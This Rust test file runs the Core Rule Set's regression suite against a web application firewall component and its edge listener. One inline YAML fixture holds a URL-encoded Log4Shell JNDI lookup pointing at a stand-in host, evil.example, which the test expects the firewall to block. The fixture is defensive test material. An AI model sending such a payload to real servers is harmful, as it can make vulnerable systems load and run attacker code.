//! The Core Rule Set's own regression tests against the WAF's component in the host, and through the real listener of the edge.
//!
//! Rules and tests are not part of this repository: `CRS_DIR` says where they are, and the tests are ignored unless asked for.
//! `cargo xtask test` builds the filters and the edge, and asks for them where there are rules.

use std::path::{Path, PathBuf};

use conformance::crs::{Findings, ModeName, Run, TargetName};
use conformance::{edge, shop};

fn rules() -> PathBuf {
    std::env::var_os("CRS_DIR").map(PathBuf::from).expect("CRS_DIR names the Core Rule Set")
}

fn found(tests: &Path, mode: ModeName, target: TargetName) -> Findings {
    let run = Run {
        rules: rules(),
        tests: tests.to_owned(),
        mode,
        target,
        paranoia: None,
        only: String::new(),
        filters: shop::root().join("target/filters"),
        edge: edge::built().expect("a folder of programs"),
    };
    run.run(&mut |line| println!("{line}")).expect("`cargo xtask test` builds the filters and the edge")
}

/// Nothing fails but the exceptions, and the goal is kept: 99.9 %.
#[track_caller]
fn passes(findings: &Findings) {
    assert!(findings.is_good(), "{}: what failed is printed", findings.report);
    assert!(findings.report.passed > 1000, "{}", findings.report);
    assert!(findings.pass_rate >= 0.999, "{}", findings.report);
}

#[test]
#[ignore = "needs the Core Rule Set, which is not part of this repository: set CRS_DIR"]
fn the_component_passes_the_core_rule_sets_tests_and_says_what_the_engine_says() {
    passes(&found(&rules().join("tests"), ModeName::Detect, TargetName::Both));
}

#[test]
#[ignore = "needs the Core Rule Set, which is not part of this repository: set CRS_DIR"]
fn the_listening_edge_passes_the_core_rule_sets_tests() {
    let findings = found(&rules().join("tests"), ModeName::Detect, TargetName::Edge);
    assert!(findings.is_good(), "{}: what failed is printed", findings.report);
    assert!(findings.report.passed > 1000, "{}", findings.report);
}

/// A page, and an attack that the rule set knows and the shop's own rules do not.
const PAGE_AND_ATTACK: &str = r#"
rule_id: 949110
tests:
  - test_id: 1
    stages:
      - input: {uri: "/series?page=2", headers: {Host: shop.example, User-Agent: Mozilla/5.0, Accept: "text/html"}}
        output: {status: 200, log: {no_expect_ids: [949110]}}
  - test_id: 2
    stages:
      - input: {uri: "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", headers: {Host: shop.example, User-Agent: Mozilla/5.0, Accept: "text/html"}}
        output: {status: 403, log: {expect_ids: [944150]}}
"#;

#[test]
#[ignore = "needs the Core Rule Set, which is not part of this repository: set CRS_DIR"]
fn the_shops_rules_around_the_rule_set_refuse_an_attack_and_no_page() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("949110.yaml"), PAGE_AND_ATTACK).expect("a file");
    for target in [TargetName::Both, TargetName::Edge] {
        let findings = found(folder.path(), ModeName::Block, target);
        assert_eq!((findings.report.passed, findings.report.failed), (2, 0), "{target:?}");
        assert!(findings.is_good(), "{target:?}");
    }
}
